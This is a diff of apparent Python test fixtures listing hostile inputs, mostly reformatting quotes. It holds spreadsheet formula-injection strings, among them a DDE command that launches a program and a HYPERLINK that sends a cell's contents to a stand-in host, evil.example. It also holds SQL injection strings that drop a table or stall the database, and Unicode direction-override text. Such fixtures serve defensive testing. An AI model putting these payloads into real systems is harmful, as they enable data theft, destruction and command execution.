@@ -66,16 +66,21 @@ BREAKOUTS: Final = (
 )
 FORMULAS: Final = (
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"点我\")",
+    '=HYPERLINK("http://evil.example?x="&A1,"点我")',
     "+1+1",
     "-2+3",
     "@SUM(1+1)",
     "\t=1+1",
     "\r=1+1",
-    "=1+1\";=1+1",
+    '=1+1";=1+1',
     "＝1+1",
 )
-SQL: Final = ("'; DROP TABLE customers_customer; --", "%' OR '1'='1", "\\'; SELECT pg_sleep(9)--", "_%_")
+SQL: Final = (
+    "'; DROP TABLE customers_customer; --",
+    "%' OR '1'='1",
+    "\\'; SELECT pg_sleep(9)--",
+    "_%_",
+)
 UNICODE: Final = (
     "\u202e反转文字\u202c",
     "\u2066隔离\u2069\u202eevil",
